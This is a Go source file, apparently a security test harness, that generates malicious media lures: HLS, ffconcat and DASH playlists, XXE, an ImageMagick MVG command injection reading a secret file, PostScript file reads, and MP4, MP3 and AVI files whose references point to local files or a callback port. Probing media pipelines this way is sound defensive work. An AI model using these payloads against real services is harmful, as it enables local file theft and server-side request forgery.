package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
)

// lures are texts and containers that point at a file (secret, an absolute
// path; sound, a recording beside it) and at a port of this machine. Each is
// tried bare and behind the first bytes of a real file.
func lures(secret, sound, addr string, of map[string][]byte) []trap {
	url := "http://" + addr + "/lure"
	texts := []struct{ name, text string }{
		{"HLS to a file", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://" + secret + "\n#EXT-X-ENDLIST\n"},
		{"HLS to a path", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n" + sound + "\n#EXT-X-ENDLIST\n"},
		{"HLS to a port", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n" + url + ".ts\n#EXT-X-ENDLIST\n"},
		{"HLS with a key at a port", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + url + "\"\n#EXTINF:1,\n" + sound + "\n#EXT-X-ENDLIST\n"},
		{"HLS by concat", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:" + url + "|" + secret + "\n#EXT-X-ENDLIST\n"},
		{"HLS by subfile", "#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,64,,:" + secret + "\n#EXT-X-ENDLIST\n"},
		{"HLS master", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + url + ".m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\nfile://" + secret + "\n"},
		{"HLS without end", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n/dev/zero\n"},
		{"ffconcat to a file", "ffconcat version 1.0\nfile '" + secret + "'\n"},
		{"ffconcat to a sound", "ffconcat version 1.0\nfile '" + sound + "'\nduration 1\n"},
		{"ffconcat to a port", "ffconcat version 1.0\nfile '" + url + "'\n"},
		{"ffconcat to itself", "ffconcat version 1.0\nfile '/proc/self/fd/3'\nfile '/proc/self/fd/3'\n"},
		{"ffconcat with options", "ffconcat version 1.0\nfile '" + sound + "'\noption safe 0\noption protocol_whitelist file,http,tcp\n"},
		{"DASH to a port", `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>` + url + `</BaseURL></Representation></AdaptationSet></Period></MPD>`},
		{"DASH to a file", `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>file://` + sound + `</BaseURL></Representation></AdaptationSet></Period></MPD>`},
		{"XML that reads a file", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://` + secret + `">]><MPD type="static"><BaseURL>&e;</BaseURL></MPD>`},
		{"SDP", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\na=control:rtsp://" + addr + "/x\n"},
		{"RTSP address", "rtsp://" + addr + "/lure\n"},
		{"PLS", "[playlist]\nFile1=" + url + "\nFile2=file://" + secret + "\nNumberOfEntries=2\n"},
		{"XSPF", `<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>` + url + `</location></track></trackList></playlist>`},
		{"ASX", `<asx version="3.0"><entry><ref href="` + url + `"/></entry></asx>`},
		{"SMIL", `<smil><body><audio src="` + url + `"/><audio src="file://` + secret + `"/></body></smil>`},
		{"SRT", "1\n00:00:00,000 --> 00:00:01,000\n<img src=\"" + url + "\">{\\fn" + secret + "}\n\n"},
		{"ASS", "[Script Info]\nAudio File: " + sound + "\nVideo File: " + secret + "\n\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,x\n"},
		{"WebVTT", "WEBVTT\n\nX-TIMESTAMP-MAP=LOCAL:" + url + "\n\n00:00.000 --> 00:01.000\nx\n"},
		{"SVG", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image xlink:href="` + url + `" width="9" height="9"/><image xlink:href="file://` + secret + `" width="9" height="9"/></svg>`},
		{"MVG", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(" + url + "|cat " + secret + ")'\npop graphic-context\n"},
		{"MSL", `<image><read filename="` + secret + `"/><write filename="` + strings.TrimSuffix(secret, ".txt") + `-written.png"/></image>`},
		{"PostScript", "%!PS\n(" + secret + ") (r) file 100 string readstring pop print\n"},
		{"a file list of lavfi", "movie=" + sound + "[out0]"},
		{"ffmetadata", ";FFMETADATA1\ntitle=" + url + "\n"},
	}
	var out []trap
	for _, t := range texts {
		out = append(out, trap{name: "lure: " + t.name, body: []byte(t.text)})
		for _, head := range []struct{ name, medium, bytes string }{
			{"Ogg", "voice", "OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\xff"},
			{"MP4", "video", "\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41"},
			{"PNG", "photo", "\x89PNG\r\n\x1a\n"},
		} {
			out = append(out, trap{name: "lure: " + t.name + " behind the first bytes of " + head.name, medium: head.medium, body: append([]byte(head.bytes), t.text...)})
		}
	}
	// A movie whose samples are said to be in another file.
	for _, f := range []string{"mov-h264", "mp4-h264", "m4a-aac"} {
		m := "video"
		if f == "m4a-aac" {
			m = "voice"
		}
		for _, to := range []string{url, "file://" + sound, sound} {
			if b := reference(of[f], to); b != nil {
				out = append(out, trap{name: "lure: " + f + " with its samples elsewhere", medium: m, body: b})
			}
		}
	}
	rmra := box("moov", box("rmra", box("rmda", box("rdrf", append([]byte("\x00\x00\x00\x00url "), append(binary.BigEndian.AppendUint32(nil, uint32(len(url)+1)), url+"\x00"...)...)))))
	out = append(out, trap{name: "lure: a movie that is elsewhere", medium: "video", body: append([]byte("\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  "), rmra...)})
	// Tags that name a cover at an address.
	if b := of["mp3"]; b != nil {
		apic := "APIC" + "\x00\x00" + fmt.Sprintf("%c%c", 0, len(url)+6) + "\x00\x00\x00-->\x00\x03\x00" + url
		tag := append([]byte("ID3\x03\x00\x00"), 0, 0, byte(len(apic)>>7), byte(len(apic)&0x7f))
		out = append(out, trap{name: "lure: an mp3 whose cover is elsewhere", medium: "voice", body: append(append(tag, apic...), b...)})
	}
	// An AVI whose subtitles are a playlist: what once made ffmpeg read files.
	playlist := texts[1].text
	gab2 := append([]byte("GAB2\x00\x02\x00\x10\x00\x00\x00s\x00u\x00b\x00s\x00\x00\x00\x00\x00\x04\x00"), append(binary.LittleEndian.AppendUint32(nil, uint32(len(playlist))), playlist...)...)
	avi := append([]byte("RIFF\x00\x10\x00\x00AVI LIST\x00\x00\x00\x00movi01tx"), append(binary.LittleEndian.AppendUint32(nil, uint32(len(gab2))), gab2...)...)
	return append(out, trap{name: "lure: an AVI whose subtitles are a playlist", body: avi})
}

func box(name string, body []byte) []byte {
	return append(append(binary.BigEndian.AppendUint32(nil, uint32(len(body)+8)), name...), body...)
}

// reference makes a movie's first data reference point elsewhere, in place of
// “in this file”, and everything around it as much longer.
func reference(b []byte, to string) []byte {
	i := bytes.Index(b, []byte("url \x00\x00\x00\x01"))
	if i < 4 {
		return nil
	}
	entry := box("url ", append([]byte{0, 0, 0, 0}, to+"\x00"...))
	more := len(entry) - 12
	out := append(append(bytes.Clone(b[:i-4]), entry...), b[i+8:]...)
	// Every box that holds the entry grows; so do the places of chunks behind it.
	for _, name := range []string{"dref", "dinf", "minf", "mdia", "trak", "moov"} {
		if k := bytes.LastIndex(out[:i], []byte(name)); k >= 4 {
			binary.BigEndian.PutUint32(out[k-4:], binary.BigEndian.Uint32(out[k-4:])+uint32(more))
		}
	}
	return out
}
